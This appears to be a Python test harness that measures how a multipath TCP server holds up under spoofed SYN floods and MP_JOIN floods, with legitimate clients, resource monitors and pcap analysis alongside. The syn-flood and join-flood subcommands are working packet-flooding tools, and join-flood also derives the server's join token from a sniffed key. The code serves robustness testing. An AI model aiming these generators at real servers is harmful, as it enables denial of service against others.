#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Attackers, legitimate clients and probes of the SYN / MP_JOIN flood tests
(issue 11, findings 1 and 2).  Written independently of mpt's C code.

Packets are laid out by scapy (one template per kind of SYN: its own TCP and
MPTCP option encoder, not ours); each spoofed variant patches the template's
source address, source port, sequence number, timestamp and key/nonce and
recomputes the TCP checksum here.  A sample of every kind is parsed back by
scapy and its checksum verified before anything is sent.  They leave through
a raw IPv4 socket, paced evenly over the given duration.

syn-flood --dst IP --port P -n N --duration S [--kinds plain,mpc1,mpc0]
          [--spoof 10.99.0.0/16] [--seed N]
    N spoofed SYNs from random addresses of --spoof and random ports, the
    kinds taking turns (plain: MSS, SACK, timestamps, window scale as Linux
    sends them; mpc1: the same plus MP_CAPABLE v1; mpc0: plus MP_CAPABLE v0
    with a random key); N = 0 waits S seconds (a control run).  Prints
    "syn-flood: t0 T" and "syn-flood: t1 T" (CLOCK_MONOTONIC when sending
    started and ended), "syn-flood: cpu user U sys S" (its own CPU while
    sending) and "syn-flood: sent N errors E seconds S".
legit --mode cat|perf|convert|kcat --host IP --port P --duration S
      [--interval S] [--timeout S] [--proto tcp|mptcp|alt] [--src ADDR]
      [--dest HOST:PORT] [--tokens FILE] [--stop-file F] [--concurrent]
    connection attempts for S seconds or until F exists, one after another
    (the next starts --interval after the previous one started, or when it
    ends) or, with --concurrent, one every --interval whatever the earlier
    ones do (open loop).  Each connect() is timed, then an exchange proves
    the application got the connection:
      cat, kcat  a unique line, shutdown, wait for the server's end of stream
               (the lines are appended to --tokens for the caller to find in
               the server's output)
      perf     iperf3's 37-byte cookie, then the server's first state byte
               must be PARAM_EXCHANGE (9), or ACCESS_DENIED (busy with
               another of our attempts: still the application's answer)
      convert  an RFC 8803 Convert message for --dest and 100 bytes; the
               answer must be an Extended TCP Header TLV and the echo
    Prints "legit: t0 T", one line per attempt "T PROTO OK|FAIL CONNECT_MS
    TOTAL_MS [why]", then "legit: attempts N ok N fail N mptcp N fallback N
    busy N connect-p50-ms X connect-p99-ms Y connect-max-ms Z total-p99-ms
    W".  Exit 1 unless every attempt succeeded (and every mptcp attempt
    really was MPTCP).
kserver --bind IP --port P [--mptcp] [--backlog N] [--count FILE] [--ready F]
    a kernel listener for the comparison: accepts, reads to the end, closes;
    --count holds the number of connections accepted so far.
join-flood --iface IF --server IP --port P -n N --duration S [--delay S]
           [--spoof 10.99.0.0/16] [--ready F] [--wait S]
    sniff IF (AF_PACKET) for the SYN-ACK of the server's MPTCP handshake,
    take the server's key from its MP_CAPABLE option, compute the token
    (v1: the top 32 bits of SHA-256(key), v0: of SHA-1(key)), then after
    --delay send N spoofed MP_JOIN SYNs carrying that token (random
    addresses, ports, address ids, nonces).  Prints "join-flood: key K token
    T version V" then "join-flood: sent N errors E seconds S".
transfer --host IP --port P --src ADDR --file F --seconds S
    a kernel MPTCP client: sends F paced evenly over S seconds, shuts down,
    waits for the server's end of stream; prints "transfer: bytes N
    seconds S subflows K fallback 0|1" (subflows from MPTCP_INFO: those
    added to the first one).
monitor --pid P --interval S --out F
    every S seconds "T RSS_KB CPU_TICKS SOFTIRQ_TICKS" (the process' VmRSS
    and utime+stime, the machine's softirq time from /proc/stat) until the
    process exits.
pcap-stats --file F [--spoof NET]
    what a server's pcap shows towards the spoofed sources: SYNs in (of
    them MP_CAPABLE, MP_JOIN), SYN-ACKs out (to distinct sources, with
    MP_CAPABLE / MP_JOIN), RSTs out, anything else.
summarize --legit F --flood F [--monitor F]
    "key value" lines: legitimate attempts before / during / after the
    flood (attempts, ok, connect p50 / p99 / max in ms), RSS before, a
    quarter into the flood, at its end, peak; CPU during the flood.
"""
import argparse
import hashlib
import ipaddress
import os
import random
import socket
import struct
import sys
import threading
import time

sys.dont_write_bytecode = True  # svc_peer is imported from the source tree
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

IPPROTO_MPTCP = 262
TOKENS_LOCK = threading.Lock()
SOL_MPTCP = 284
MPTCP_INFO = 1
MPTCP_INFO_FLAG_FALLBACK = 1
MPTCP_INFO_FLAG_REMOTE_KEY_RECEIVED = 2


# ---- packets ---------------------------------------------------------------------

def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def tcp_option_offsets(pkt):
    """{kind: offset of the option's kind byte} in an IPv4 packet (no IP options)."""
    ihl = (pkt[0] & 0xF) * 4
    doff = (pkt[ihl + 12] >> 4) * 4
    off, end, out = ihl + 20, ihl + doff, {}
    while off < end:
        k = pkt[off]
        if k == 0:
            break
        if k == 1:
            off += 1
            continue
        out.setdefault(k, off)
        off += pkt[off + 1]
    return out


LINUX_OPTS = [("MSS", 1460), ("SAckOK", b""), ("Timestamp", (0, 0)), ("NOP", None),
              ("WScale", 7)]


def template(kind, dst, port, token=b"\0" * 4):
    """A SYN of this kind laid out by scapy, as bytes."""
    from scapy.all import IP, TCP  # noqa: imported late: only the senders need it
    opts = list(LINUX_OPTS)
    if kind == "mpc1":
        # RFC 8684 §3.1: subtype 0, version 1; flags: H (HMAC-SHA256), as Linux.
        opts.append((30, bytes([0x01, 0x01])))
    elif kind == "mpc0":
        # RFC 6824 §3.1: version 0, flags A (checksum) + S (HMAC-SHA1), the
        # sender's 64-bit key.
        opts.append((30, bytes([0x00, 0x81]) + b"\0" * 8))
    elif kind == "join":
        # RFC 8684 §3.2: MP_JOIN SYN: subtype 1, B = 0, address id, the
        # receiver's token, the sender's random number.
        opts.append((30, bytes([0x10, 0x01]) + token + b"\0" * 4))
    elif kind != "plain":
        raise ValueError("unknown SYN kind %r" % kind)
    p = IP(src="10.0.0.1", dst=dst, ttl=64) / TCP(sport=1, dport=port, flags="S", seq=0,
                                                  window=64240, options=opts)
    return bytes(p)


class Variants:
    """Spoofed copies of a template: source, port, seq, TSval, key/nonce."""

    def __init__(self, tmpl, kind, rng):
        self.t = bytearray(tmpl)
        self.kind = kind
        self.rng = rng
        o = tcp_option_offsets(self.t)
        self.ts = o[8] + 2
        self.mp = o.get(30)
        self.dst = bytes(self.t[16:20])

    def make(self, src):
        p = self.t
        r = self.rng
        p[12:16] = src
        struct.pack_into("!H", p, 20, r.randint(1024, 65535))
        struct.pack_into("!I", p, 24, r.getrandbits(32))
        struct.pack_into("!I", p, self.ts, r.getrandbits(32))
        if self.kind == "mpc0":
            p[self.mp + 4:self.mp + 12] = r.getrandbits(64).to_bytes(8, "big")
        elif self.kind == "join":
            p[self.mp + 3] = r.randint(1, 255)  # address id
            p[self.mp + 8:self.mp + 12] = r.getrandbits(32).to_bytes(4, "big")
        p[10:12] = b"\0\0"
        struct.pack_into("!H", p, 10, csum(bytes(p[:20])))
        seg = bytes(p[20:])
        seg = seg[:16] + b"\0\0" + seg[18:]
        pseudo = bytes(p[12:20]) + struct.pack("!BBH", 0, 6, len(seg))
        struct.pack_into("!H", p, 36, csum(pseudo + seg))
        return bytes(p)


def verify_with_scapy(pkt, kind):
    """scapy parses the packet back: a SYN, a valid TCP checksum, our option."""
    from scapy.all import IP, TCP
    ip = IP(pkt)
    tcp = ip[TCP]
    got = tcp.chksum
    del tcp.chksum
    want = IP(bytes(ip))[TCP].chksum
    if got != want:
        raise SystemExit("flood_peer: bad TCP checksum in a %s SYN (%#x, scapy %#x)" %
                         (kind, got, want))
    if tcp.flags != "S":
        raise SystemExit("flood_peer: a %s template is not a SYN" % kind)
    mp = [v for k, v in tcp.options if k == 30]
    if (kind == "plain") != (not mp):
        raise SystemExit("flood_peer: MPTCP option wrong in a %s SYN" % kind)


def spoof_sources(net, rng):
    n = ipaddress.ip_network(net)
    base = int(n.network_address)
    size = n.num_addresses
    while True:
        a = base + rng.randint(1, size - 2)
        if a & 0xFF not in (0, 255):
            yield a.to_bytes(4, "big")


def send_paced(pkts, dst, duration, label):
    """Send pkts evenly over duration seconds through a raw socket."""
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
    n = len(pkts)
    sent = errors = 0
    import resource
    ru0 = resource.getrusage(resource.RUSAGE_SELF)
    t0 = time.monotonic()
    print("%s: t0 %.3f" % (label, t0))
    sys.stdout.flush()
    if n == 0:
        time.sleep(duration)  # a control run: the same window, no packets
    while sent + errors < n:
        el = time.monotonic() - t0
        target = n if duration <= 0 else min(n, int(el / duration * n) + 1)
        while sent + errors < target:
            try:
                s.sendto(pkts[sent + errors], (dst, 0))
                sent += 1
            except OSError:
                errors += 1
        time.sleep(0.002)
    t1 = time.monotonic()
    ru1 = resource.getrusage(resource.RUSAGE_SELF)
    print("%s: t1 %.3f" % (label, t1))
    # the kernel's work on what we send (veth delivery, the receiving
    # listener's SYN handling or the forwarding into a TUN) mostly runs in
    # softirq in this process' context and is charged to its system time
    print("%s: cpu user %.3f sys %.3f" % (label, ru1.ru_utime - ru0.ru_utime,
                                          ru1.ru_stime - ru0.ru_stime))
    print("%s: sent %d errors %d seconds %.2f" % (label, sent, errors, t1 - t0))
    sys.stdout.flush()
    return sent


def syn_flood(a):
    rng = random.Random(a.seed)
    kinds = a.kinds.split(",")
    gens = {}
    for k in kinds:
        v = Variants(template(k, a.dst, a.port), k, rng)
        gens[k] = v
    srcs = spoof_sources(a.spoof, rng)
    pkts = []
    for i in range(a.n):
        k = kinds[i % len(kinds)]
        pkts.append(gens[k].make(next(srcs)))
    for i, k in enumerate(kinds):
        for p in pkts[i:len(kinds) * 4:len(kinds)]:
            verify_with_scapy(p, k)
    if not pkts:
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        s.close()  # the same privileges as a real flood
    print("syn-flood: %d SYNs (%s) from %s to %s:%d over %.1f s, seed %d" % (
        a.n, "/".join(kinds), a.spoof, a.dst, a.port, a.duration, a.seed))
    sys.stdout.flush()
    send_paced(pkts, a.dst, a.duration, "syn-flood")
    return 0


# ---- join flood --------------------------------------------------------------------

def sniff_key(iface, server, port, wait, ready=None):
    """The server's MP_CAPABLE key in the first SYN-ACK from server:port on iface."""
    from scapy.all import IP, TCP
    s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
    s.bind((iface, 0x0800))
    s.settimeout(0.5)
    if ready:
        open(ready, "w").close()
    deadline = time.monotonic() + wait
    while time.monotonic() < deadline:
        try:
            raw = s.recv(65535)
        except socket.timeout:
            continue
        except OSError:
            # ENETDOWN is reported once when the link's state changed after bind
            time.sleep(0.01)
            continue
        try:
            ip = IP(raw)
        except Exception:
            continue
        if ip.src != server or TCP not in ip:
            continue
        t = ip[TCP]
        if t.sport != port or t.flags != "SA":
            continue
        for k, v in t.options:
            if k == 30 and len(v) >= 10 and v[0] >> 4 == 0:
                s.close()
                return v[0] & 0xF, bytes(v[2:10])
    s.close()
    return None, None


def join_flood(a):
    ver, key = sniff_key(a.iface, a.server, a.port, a.wait, a.ready)
    if key is None:
        print("join-flood: no SYN-ACK with MP_CAPABLE from %s:%d seen" % (a.server, a.port))
        return 1
    h = hashlib.sha256(key) if ver == 1 else hashlib.sha1(key)
    token = h.digest()[:4]
    print("join-flood: key %s token %s version %d" % (key.hex(), token.hex(), ver))
    sys.stdout.flush()
    rng = random.Random(a.seed)
    v = Variants(template("join", a.server, a.port, token), "join", rng)
    srcs = spoof_sources(a.spoof, rng)
    pkts = [v.make(next(srcs)) for _ in range(a.n)]
    for p in pkts[:4]:
        verify_with_scapy(p, "join")
    rest = a.delay - 0.0
    if rest > 0:
        time.sleep(rest)
    if a.started:
        open(a.started, "w").close()
    send_paced(pkts, a.server, a.duration, "join-flood")
    return 0


# ---- legitimate clients ----------------------------------------------------------

def pct(v, p):
    if not v:
        return float("nan")
    v = sorted(v)
    return v[min(len(v) - 1, int(round(p / 100.0 * (len(v) - 1))))]


def mptcp_state(s):
    """'mptcp', 'fallback' or 'tcp' for a connected socket."""
    if s.proto != IPPROTO_MPTCP:
        return "tcp"
    try:
        b = s.getsockopt(SOL_MPTCP, MPTCP_INFO, 256)
    except OSError:
        return "fallback"
    if len(b) < 12:
        return "fallback"
    flags = struct.unpack_from("=I", b, 8)[0]
    if flags & MPTCP_INFO_FLAG_FALLBACK or not flags & MPTCP_INFO_FLAG_REMOTE_KEY_RECEIVED:
        return "fallback"
    return "mptcp"


def recv_until_eof(s, deadline):
    got = b""
    while True:
        s.settimeout(max(0.01, deadline - time.monotonic()))
        d = s.recv(65536)
        if not d:
            return got
        got += d


def attempt(a, n, proto):
    """(ok, connect_s, total_s, mptcp_state, why)"""
    from svc_peer import convert_msg, read_answer, T_ERROR, T_EXT
    fam = socket.AF_INET6 if ":" in a.host else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_STREAM, IPPROTO_MPTCP if proto == "mptcp" else 0)
    st = "tcp"
    st_note = ""
    t0 = time.monotonic()
    deadline = t0 + a.timeout
    tc = None
    try:
        if a.src:
            s.bind((a.src, 0))
        s.settimeout(a.timeout)
        s.connect((a.host, a.port))
        tc = time.monotonic() - t0
        st = mptcp_state(s)
        if a.mode in ("cat", "kcat"):
            line = ("legit %d %s %s\n" % (n, proto, os.urandom(6).hex())).encode()
            s.sendall(line)
            s.shutdown(socket.SHUT_WR)
            back = recv_until_eof(s, deadline)
            if back:
                raise OSError("unexpected %d bytes back" % len(back))
            if a.tokens:
                with TOKENS_LOCK, open(a.tokens, "ab") as f:
                    f.write(line)
        elif a.mode == "perf":
            s.sendall(os.urandom(18).hex().encode()[:36] + b"\0")
            s.settimeout(max(0.01, deadline - time.monotonic()))
            b = s.recv(1)
            if b == b"\xff":
                # ACCESS_DENIED: the server application accepted this
                # connection and answered that it is busy with another one
                # (only with --concurrent)
                st_note = "busy"
            elif b != b"\x09":
                raise OSError("server state %r, not PARAM_EXCHANGE" % b)
        elif a.mode == "convert":
            payload = os.urandom(100)
            s.sendall(convert_msg(a.dest) + payload)
            tlvs, rest = read_answer(s, deadline)
            if [t for t, _ in tlvs] != [T_EXT]:
                errs = [v[0] for t, v in tlvs if t == T_ERROR]
                raise OSError("answer %r" % (("error TLV %d" % errs[0]) if errs else tlvs))
            got = rest
            while len(got) < len(payload):
                s.settimeout(max(0.01, deadline - time.monotonic()))
                d = s.recv(65536)
                if not d:
                    break
                got += d
            if got != payload:
                raise OSError("echo differs (%d of %d bytes)" % (len(got), len(payload)))
        return True, tc, time.monotonic() - t0, st, st_note
    except OSError as e:
        return False, tc, time.monotonic() - t0, st, (str(e) or type(e).__name__)
    finally:
        s.close()


def legit(a):
    t0 = time.monotonic()
    print("legit: t0 %.3f" % t0)
    sys.stdout.flush()
    lock = threading.Lock()
    res = []  # (start, proto, good, connect_s, total_s, why, state)
    threads = []

    def one(n, proto, s0):
        good, tc, tt, st, why = attempt(a, n, proto)
        if proto == "mptcp" and good and st != "mptcp":
            good, why = False, "fell back to TCP"
        with lock:
            res.append((s0 - t0, proto, good, tc, tt, why, st))
            print("%.3f %s %s %.2f %.2f %s" % (s0 - t0, proto, "OK" if good else "FAIL",
                                               (tc if tc is not None else tt) * 1e3, tt * 1e3,
                                               why))
            sys.stdout.flush()

    n = 0
    while time.monotonic() - t0 < a.duration and not (a.stop_file and
                                                       os.path.exists(a.stop_file)):
        s0 = time.monotonic()
        proto = a.proto if a.proto != "alt" else ("mptcp" if n % 2 else "tcp")
        if a.concurrent:
            # open loop: attempts start on schedule whatever the earlier
            # ones are doing
            th = threading.Thread(target=one, args=(n, proto, s0), daemon=True)
            th.start()
            threads.append(th)
        else:
            one(n, proto, s0)
        n += 1
        rest = a.interval - (time.monotonic() - s0)
        if rest > 0:
            time.sleep(rest)
    for th in threads:
        th.join()
    ok = [r for r in res if r[2]]
    con = [r[3] for r in ok]
    tot = [r[4] for r in ok]
    n_mp = sum(1 for r in ok if r[1] == "mptcp")
    n_fb = sum(1 for r in res if r[5] == "fell back to TCP")
    busy = sum(1 for r in ok if r[5] == "busy")
    print("legit: attempts %d ok %d fail %d mptcp %d fallback %d busy %d connect-p50-ms %.2f "
          "connect-p99-ms %.2f connect-max-ms %.2f total-p99-ms %.2f" % (
              len(res), len(ok), len(res) - len(ok), n_mp, n_fb, busy, pct(con, 50) * 1e3,
              pct(con, 99) * 1e3, (max(con) if con else float("nan")) * 1e3,
              pct(tot, 99) * 1e3))
    return 0 if len(ok) == len(res) and res else 1


# ---- kernel listener ---------------------------------------------------------------

def kserver(a):
    ls = socket.socket(socket.AF_INET, socket.SOCK_STREAM, IPPROTO_MPTCP if a.mptcp else 0)
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind((a.bind, a.port))
    ls.listen(a.backlog)
    count = 0
    if a.ready:
        open(a.ready, "w").close()

    def serve(c):
        try:
            c.settimeout(30)
            while c.recv(65536):
                pass
        except OSError:
            pass
        c.close()

    while True:
        c, _ = ls.accept()
        count += 1
        if a.count:
            with open(a.count + ".tmp", "w") as f:
                f.write("%d\n" % count)
            os.replace(a.count + ".tmp", a.count)
        threading.Thread(target=serve, args=(c,), daemon=True).start()


# ---- transfer ----------------------------------------------------------------------

def transfer(a):
    data = open(a.file, "rb").read()
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, IPPROTO_MPTCP)
    s.bind((a.src, 0))
    s.settimeout(30)
    s.connect((a.host, a.port))
    t0 = time.monotonic()
    off, chunk = 0, 16384
    while off < len(data):
        due = t0 + a.seconds * off / len(data)
        now = time.monotonic()
        if due > now:
            time.sleep(due - now)
        s.sendall(data[off:off + chunk])
        off += chunk
    s.shutdown(socket.SHUT_WR)
    back = recv_until_eof(s, time.monotonic() + 30)
    info = s.getsockopt(SOL_MPTCP, MPTCP_INFO, 256)
    subflows = info[0] if info else -1
    fb = 1 if mptcp_state(s) != "mptcp" else 0
    s.close()
    print("transfer: bytes %d seconds %.2f subflows %d fallback %d back %d" % (
        len(data), time.monotonic() - t0, subflows, fb, len(back)))
    return 0 if not back else 1


# ---- monitor -----------------------------------------------------------------------

def monitor(a):
    hz = os.sysconf("SC_CLK_TCK")
    t0 = time.monotonic()
    with open(a.out, "w") as out:
        out.write("# t0 %.3f\n# t rss_kb cpu_ticks softirq_ticks (CLK_TCK %d)\n" % (t0, hz))
        while True:
            try:
                rss = 0
                with open("/proc/%d/status" % a.pid) as f:
                    for line in f:
                        if line.startswith("VmRSS:"):
                            rss = int(line.split()[1])
                with open("/proc/%d/stat" % a.pid) as f:
                    st = f.read().rsplit(")", 1)[1].split()
                cpu = int(st[11]) + int(st[12])
                if not rss:
                    return 0  # exited (a zombie has no VmRSS)
                with open("/proc/stat") as f:
                    softirq = int(f.readline().split()[7])
            except (OSError, ValueError, IndexError):
                return 0
            out.write("%.3f %d %d %d\n" % (time.monotonic() - t0, rss, cpu, softirq))
            out.flush()
            time.sleep(a.interval)


# ---- analysis ----------------------------------------------------------------------

def pcap_packets(path):
    """IPv4 packets of a pcap file (raw IP or Ethernet link types)."""
    with open(path, "rb") as f:
        data = f.read()
    magic = struct.unpack_from("<I", data, 0)[0]
    end = "<" if magic in (0xA1B2C3D4, 0xA1B23C4D) else ">"
    link = struct.unpack_from(end + "I", data, 20)[0]
    skip = 14 if link == 1 else 0
    off = 24
    while off + 16 <= len(data):
        incl = struct.unpack_from(end + "I", data, off + 8)[0]
        pkt = data[off + 16 + skip:off + 16 + incl]
        off += 16 + incl
        if len(pkt) >= 40 and pkt[0] >> 4 == 4 and pkt[9] == 6:
            yield pkt


def pcap_stats(a):
    """What the stack received from and sent to the spoofed addresses."""
    net = ipaddress.ip_network(a.spoof)
    c = dict.fromkeys(("syn-in", "mpc-syn-in", "join-syn-in", "other-in", "synack-out",
                       "synack-out-distinct", "mpc-synack-out", "join-synack-out", "rst-out",
                       "other-out"), 0)
    seen = set()
    for p in pcap_packets(a.file):
        ihl = (p[0] & 0xF) * 4
        src, dst = ipaddress.ip_address(p[12:16]), ipaddress.ip_address(p[16:20])
        sport, dport = struct.unpack_from("!HH", p, ihl)
        flags = p[ihl + 13]
        o = tcp_option_offsets(p)
        mp = p[o[30] + 2] >> 4 if 30 in o else -1
        syn, ack, rst = flags & 2, flags & 16, flags & 4
        if src in net:
            if syn and not ack:
                c["syn-in"] += 1
                c["mpc-syn-in"] += mp == 0
                c["join-syn-in"] += mp == 1
            else:
                c["other-in"] += 1
        elif dst in net:
            if syn and ack:
                c["synack-out"] += 1
                c["mpc-synack-out"] += mp == 0
                c["join-synack-out"] += mp == 1
                seen.add((p[16:20], dport))
            elif rst:
                c["rst-out"] += 1
            else:
                c["other-out"] += 1
    c["synack-out-distinct"] = len(seen)
    print(" ".join("%s %d" % kv for kv in c.items()))
    return 0


def read_legit(path):
    t0, rows = None, []
    for line in open(path):
        f = line.split()
        if line.startswith("legit: t0 "):
            t0 = float(f[2])
        elif len(f) >= 5 and f[2] in ("OK", "FAIL"):
            rows.append((float(f[0]), f[1], f[2] == "OK", float(f[3]), float(f[4])))
    return t0, rows


def window(rows, lo, hi):
    w = [r for r in rows if lo <= r[0] < hi]
    ok = [r for r in w if r[2]]
    con = [r[3] for r in ok]
    return "%d %d %.2f %.2f %.2f" % (len(w), len(ok), pct(con, 50), pct(con, 99),
                                      max(con) if con else float("nan"))


def summarize(a):
    """key value lines: legit attempts before/during/after the flood, RSS, CPU."""
    t0, rows = read_legit(a.legit)
    f0 = f1 = None
    for line in open(a.flood):
        if ": t0 " in line:
            f0 = float(line.split()[2])
        elif ": t1 " in line:
            f1 = float(line.split()[2])
    if t0 is None or f0 is None or f1 is None:
        print("summary-error missing-timestamps")
        return 1
    s, e = f0 - t0, f1 - t0
    print("flood-start %.2f" % s)
    print("flood-end %.2f" % e)
    # attempts, ok, connect p50/p99/max (ms)
    print("before %s" % window(rows, -1e9, s))
    print("during %s" % window(rows, s, e))
    print("after %s" % window(rows, e, 1e9))
    print("all %s" % window(rows, -1e9, 1e9))
    if a.monitor:
        # monitor times are relative to its own start: align on CLOCK_MONOTONIC
        mon = []
        m0 = None
        for line in open(a.monitor):
            if line.startswith("# t0 "):
                m0 = float(line.split()[2])
            elif not line.startswith("#"):
                mon.append([float(x) for x in line.split()])
        if m0 is None or not mon:
            print("summary-error no-monitor-data")
            return 1
        hz = os.sysconf("SC_CLK_TCK")
        rel = [(m0 + r[0] - f0, r[1], r[2], r[3]) for r in mon]
        before = [r for r in rel if r[0] < 0]
        during = [r for r in rel if 0 <= r[0] <= f1 - f0]
        base = before[-1] if before else rel[0]
        q = [r for r in during if r[0] >= (f1 - f0) / 4] or during
        print("rss-before-kb %d" % base[1])
        print("rss-peak-kb %d" % max(r[1] for r in rel))
        print("rss-flood-quarter-kb %d" % (q[0][1] if q else base[1]))
        print("rss-flood-end-kb %d" % (during[-1][1] if during else base[1]))
        print("rss-end-kb %d" % rel[-1][1])
        print("window-s %.1f" % rel[-1][0])
        if len(during) >= 2:
            dt = during[-1][0] - during[0][0]
            print("cpu-during-pct %.1f" % ((during[-1][2] - during[0][2]) / hz / dt * 100))
            print("softirq-during-pct %.1f" % ((during[-1][3] - during[0][3]) / hz / dt * 100))
        else:
            print("cpu-during-pct nan")
            print("softirq-during-pct nan")
    return 0


def main():
    ap = argparse.ArgumentParser()
    sub = ap.add_subparsers(dest="cmd", required=True)
    p = sub.add_parser("syn-flood")
    p.add_argument("--dst", required=True)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("-n", type=int, required=True)
    p.add_argument("--duration", type=float, required=True)
    p.add_argument("--kinds", default="plain,mpc1,mpc0")
    p.add_argument("--spoof", default="10.99.0.0/16")
    p.add_argument("--seed", type=int, default=1)
    p = sub.add_parser("legit")
    p.add_argument("--mode", choices=("cat", "kcat", "perf", "convert"), required=True)
    p.add_argument("--host", required=True)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--duration", type=float, required=True)
    p.add_argument("--interval", type=float, default=0.1)
    p.add_argument("--timeout", type=float, default=10)
    p.add_argument("--proto", choices=("tcp", "mptcp", "alt"), default="alt")
    p.add_argument("--src")
    p.add_argument("--dest")
    p.add_argument("--tokens")
    p.add_argument("--stop-file")
    p.add_argument("--concurrent", action="store_true")
    p = sub.add_parser("kserver")
    p.add_argument("--bind", required=True)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--mptcp", action="store_true")
    p.add_argument("--backlog", type=int, default=128)
    p.add_argument("--count")
    p.add_argument("--ready")
    p = sub.add_parser("join-flood")
    p.add_argument("--iface", required=True)
    p.add_argument("--server", required=True)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("-n", type=int, required=True)
    p.add_argument("--duration", type=float, required=True)
    p.add_argument("--delay", type=float, default=1)
    p.add_argument("--spoof", default="10.99.0.0/16")
    p.add_argument("--seed", type=int, default=1)
    p.add_argument("--wait", type=float, default=30)
    p.add_argument("--ready")
    p.add_argument("--started")
    p = sub.add_parser("transfer")
    p.add_argument("--host", required=True)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--src", required=True)
    p.add_argument("--file", required=True)
    p.add_argument("--seconds", type=float, required=True)
    p = sub.add_parser("monitor")
    p.add_argument("--pid", type=int, required=True)
    p.add_argument("--interval", type=float, default=0.25)
    p.add_argument("--out", required=True)
    p = sub.add_parser("pcap-stats")
    p.add_argument("--file", required=True)
    p.add_argument("--spoof", default="10.99.0.0/16")
    p = sub.add_parser("summarize")
    p.add_argument("--legit", required=True)
    p.add_argument("--flood", required=True)
    p.add_argument("--monitor")
    a = ap.parse_args()
    fn = {"syn-flood": syn_flood, "legit": legit, "kserver": kserver, "join-flood": join_flood,
          "transfer": transfer, "monitor": monitor, "pcap-stats": pcap_stats,
          "summarize": summarize}[a.cmd.replace("_", "-")]
    sys.exit(fn(a))


if __name__ == "__main__":
    main()
